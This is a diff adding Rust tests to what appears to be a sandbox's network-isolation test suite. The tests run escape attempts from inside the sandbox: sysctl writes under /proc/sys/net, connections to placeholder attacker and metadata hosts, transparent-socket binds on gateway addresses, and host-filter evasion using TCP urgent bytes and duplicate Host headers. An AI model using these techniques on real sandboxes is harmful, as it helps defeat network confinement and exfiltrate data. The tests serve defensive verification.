@@ -185,3 +185,63 @@ fn the_places_of_the_gate() {
         ));
     });
 }
+
+#[test]
+fn settings_of_the_network() {
+    everywhere("good.example", |inside| {
+        inside.tries_sh(
+            "echo tried; cd /proc/sys/net; for s in ipv4/ip_forward ipv4/conf/all/route_localnet ipv4/conf/all/rp_filter ipv4/conf/lo/accept_local \
+             ipv4/ip_nonlocal_bind ipv4/ip_early_demux ipv4/tcp_fwmark_accept ipv4/ip_unprivileged_port_start ipv6/conf/all/disable_ipv6 ipv6/conf/all/forwarding; do \
+             for v in 0 1 2; do { echo $v > $s; } 2>/dev/null; done; done; true",
+        );
+        inside.tries(&format!(
+            "for a in '{ATTACKER}', '{METADATA}', '{HOST}', '127.0.0.1':\n    \
+             reach(a, 443, hello('bad.example')); reach(a, 80, get('bad.example')); datagram(a, 443)\n\
+             reach('{ATTACKER_V6}', 443, hello('good.example'), family=socket.AF_INET6)"
+        ));
+    });
+}
+
+#[test]
+fn the_ports_of_the_gate() {
+    // Whoever gets hold of them, also as IPv6 with IPv4 in it, gets what this sandbox sends.
+    everywhere("good.example", |inside| {
+        inside.tries(&format!(
+            "IP_TRANSPARENT = 19; held = []\n\
+             for family, addresses in (socket.AF_INET, ('0.0.0.0', '198.18.0.1', '198.18.0.2', '{ATTACKER}')), (socket.AF_INET6, ('::', '::ffff:198.18.0.1')):\n    \
+             for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n        \
+             for address in addresses:\n            \
+             for port in 1, 53:\n                \
+             tried(address, port)\n                \
+             try:\n                    \
+             s = socket.socket(family, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n                    \
+             if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\n                \
+             except OSError: continue\n                \
+             try: s.setsockopt(0, IP_TRANSPARENT, 1)\n                \
+             except OSError: pass\n                \
+             try: s.bind((address, port)); kind == socket.SOCK_STREAM and s.listen(); held.append(s)\n                \
+             except OSError: pass\n\
+             reach('{ATTACKER}', 443, hello('bad.example')); reach('{ATTACKER}', 1); reach('{ATTACKER}', 53); datagram('{ATTACKER}', 1); datagram('{ATTACKER}', 53)"
+        ));
+    });
+}
+
+#[test]
+fn urgent_data() {
+    // A byte beside the stream: who reads it in place reads other names than who does not.
+    everywhere("good.example", |inside| {
+        inside.tries(&format!(
+            "def mixed(a, port, data, at):\n    \
+             tried(a, port)\n    \
+             s = socket.socket(); s.settimeout(0.6); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n    \
+             try:\n        \
+             s.connect((a, port)); s.sendall(data[:at]); s.send(data[at:at + 1], socket.MSG_OOB); s.sendall(data[at + 1:])\n        \
+             refused(s.recv(1000)) or escaped(a, port)\n    \
+             except OSError: pass\n\
+             long = hello('xgood.example'); mixed('{CDN}', 443, long, long.index(b'xgood'))\n\
+             bad = get('bad.example'); mixed('{CDN}', 80, bad, bad.index(b'bad')); mixed('{ATTACKER}', 80, bad, 0)\n\
+             odd = get('xgood.example'); mixed('{ATTACKER}', 80, odd, odd.index(b'xgood'))\n\
+             mixed('{CDN}', 80, b'GET /k8e-secret HTTP/1.1\\r\\nHost: good.exampleX\\r\\nHost: bad.example\\r\\n\\r\\n', 46)"
+        ));
+    });
+}
